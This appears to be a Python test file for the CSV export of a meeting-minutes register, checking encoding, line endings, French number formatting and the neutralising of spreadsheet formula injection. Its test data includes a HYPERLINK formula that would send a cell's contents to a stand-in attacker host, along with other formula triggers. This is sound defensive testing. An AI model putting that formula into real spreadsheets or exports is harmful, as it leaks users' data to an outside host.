"""CSV export: one UTF-8 file per kind of record, read back with ``csv``; formulas neutralised."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from exchange_helpers import HOSTILE
from hypothesis import given, settings
from hypothesis import strategies as st

from minutier.core.errors import MinutierError
from minutier.services import actions, records
from minutier.services.exchange import csv_format
from minutier.store.connection import Store

FILES = {
    "actions.csv",
    "announcements.csv",
    "committees.csv",
    "decisions.csv",
    "initiatives.csv",
    "meetings.csv",
    "organisations.csv",
    "people.csv",
}


def read(path: Path) -> list[dict[str, str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "a byte-order mark for spreadsheets"
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def test_one_file_per_kind_read_back_with_csv(register: Store, tmp_path: Path) -> None:
    written = csv_format.write_csv(register, tmp_path / "out")
    assert {p.name for p in written} == FILES == {p.name for p in (tmp_path / "out").iterdir()}

    actions_rows = read(tmp_path / "out" / "actions.csv")
    assert [a["ref"] for a in actions_rows] == ["CNIA-A1", "CSIIA-A1", "CSIIA-A2", "CSIIA-A3"]
    buy = actions_rows[1]
    assert buy["text"] == f"Lancer l'achat des GPU\n{HOSTILE}"
    assert (buy["committee"], buy["meeting"], buy["owner"], buy["due_on"]) == (
        "CSIIA",
        "CSIIA/3",
        "Choi Sang Mok",
        "2025-03-31",
    )
    assert (buy["status"], buy["priority"], buy["initiative"]) == (
        "open",
        "high",
        "Sixième supercalculateur",
    )
    assert buy["decision"] == "CSIIA-D2"
    assert buy["last_progress_note"] == "2025-02-18: Appel d'offres lancé."
    assert actions_rows[2]["owner"] == "Agence du calcul"

    decisions = {d["ref"]: d for d in read(tmp_path / "out" / "decisions.csv")}
    first = decisions["CSIIA-D1"]
    assert (first["status"], first["superseded_by"]) == ("superseded", "CSIIA-D2")
    assert (first["votes_for"], first["votes_against"], first["votes_abstain"]) == ("10", "2", "1")
    # figures in the register's language (French), as the PDF writes them, beside the stored values
    assert first["figures"] == "jusqu’à 2\u00a0billions de\u00a0wons"
    assert first["figures_stored"] == "2000000000000 KRW"
    assert first["initiatives"] == "Centre national de calcul; Sixième supercalculateur"

    (announcement,) = read(tmp_path / "out" / "announcements.csv")
    assert announcement["figures"] == (
        "GPU supplémentaires\u00a0: 8\u202f000\u00a0GPU; "
        "400\u00a0milliards de\u00a0wons (277\u00a0millions de\u00a0dollars)"
    )
    assert announcement["figures_stored"] == "8000 GPU; 400000000000 KRW (≈ 27700000000 USD)"
    for text in (first["figures"], announcement["figures"]):
        assert not {"up to", "target", "about"} & set(text.split())
    assert announcement["meeting"] == "CSIIA/3" and announcement["announced_by"] == "Choi Sang Mok"

    meetings = {m["ref"]: m for m in read(tmp_path / "out" / "meetings.csv")}
    assert meetings["CSIIA/3"]["agenda"].split("\n") == ["Ouverture", HOSTILE]
    assert meetings["CSIIA/5"]["status"] == "cancelled"
    assert meetings["CSIIA/4"]["series_title"] == "Réunion mensuelle"

    committees = {c["code"]: c for c in read(tmp_path / "out" / "committees.csv")}
    assert committees["CSIIA"]["native_name"] == "AI 컴퓨팅 인프라 특별위원회"
    assert committees["CSIIA"]["parent"] == "CNIA"
    (choi,) = [p for p in read(tmp_path / "out" / "people.csv") if p["native_name"] == "최상목"]
    assert choi["roles"] == "Ministre (Ministère des Sciences et des TIC)"
    initiatives = {i["name"]: i for i in read(tmp_path / "out" / "initiatives.csv")}
    assert initiatives["Centre national de calcul"]["figures"] == "1\u00a0exaflop (objectif)"
    organisations = {o["name"]: o for o in read(tmp_path / "out" / "organisations.csv")}
    assert organisations["Agence du calcul"]["parent"] == "Ministère des Sciences et des TIC"


def test_the_files_are_deterministic_and_use_crlf(register: Store, tmp_path: Path) -> None:
    csv_format.write_csv(register, tmp_path / "a")
    csv_format.write_csv(register, tmp_path / "b")
    for name in FILES:
        a = (tmp_path / "a" / name).read_bytes()
        assert a == (tmp_path / "b" / name).read_bytes()
        header, _, rest = a.partition(b"\r\n")
        assert rest and b"\n" not in header and header.startswith(b"\xef\xbb\xbf")


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1", "@SUM(A1:A9)", "-2+3"]


def test_formula_injection_is_neutralised(register: Store, tmp_path: Path) -> None:
    committee = register.scalar("SELECT id FROM committee WHERE code = 'CSIIA'")
    for text in FORMULAS:
        records.create(register, "person", {"name": text, "notes": text})
        actions.create_action(register, text, committee_id=committee, owner=text)
    records.create(register, "person", {"name": "   =1+1", "notes": "-5"})
    csv_format.write_csv(register, tmp_path)

    people = {p["name"]: p for p in read(tmp_path / "people.csv")}
    for text in FORMULAS:
        assert people["'" + text]["notes"] == "'" + text
    assert people["'=1+1"]["notes"] == "-5"  # a plain number is left a number
    for a in read(tmp_path / "actions.csv"):
        if a["text"].lstrip("'") in FORMULAS:
            assert a["text"][0] == "'" and a["owner"][0] == "'"
    for name in FILES:
        for row in read(tmp_path / name):
            for cell in row.values():
                first = cell.lstrip(" \r\n\t")[:1]
                assert not (first and first in "=+-@") or re.fullmatch(r"-?[0-9.]+", cell), cell


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+33 1 23", "'+33 1 23"),
        ("-", "'-"),
        ("@me", "'@me"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\tplain", "'\tplain"),
        ("\n=1", "'\n=1"),
        ("  -x", "'  -x"),
        ("-5", "-5"),
        ("-1.25", "-1.25"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (-7, -7),
    ],
)
def test_the_rule(value: object, cell: object) -> None:
    assert csv_format.neutralise(value) == cell


TRIGGERS = st.sampled_from(["=", "+", "-", "@", "\t", "\r", " =", "\n+", "-1", "'"])
CELLS = st.one_of(st.text(), st.builds(lambda a, b: a + b, TRIGGERS, st.text()))


@settings(max_examples=500)
@given(CELLS)
def test_any_text_reads_back_as_itself_or_neutralised(text: str) -> None:
    out = csv_format.render([{"x": text}], ["x"])
    rows = list(csv.reader(io.StringIO(out, newline="")))
    assert rows[0] == ["x"]
    cell = rows[1][0] if len(rows) > 1 and rows[1] else ""
    assert cell in (text, "'" + text)
    first = cell.lstrip(" \t\r\n")[:1]
    dangerous = cell[:1] in ("\t", "\r") or (first != "" and first in "=+-@")
    assert not dangerous or re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", cell)


def test_a_file_where_the_folder_should_be(register: Store, tmp_path: Path) -> None:
    blocker = tmp_path / "taken"
    blocker.write_text("not a folder")
    with pytest.raises(MinutierError, match="Cannot write the CSV files"):
        csv_format.write_csv(register, blocker)
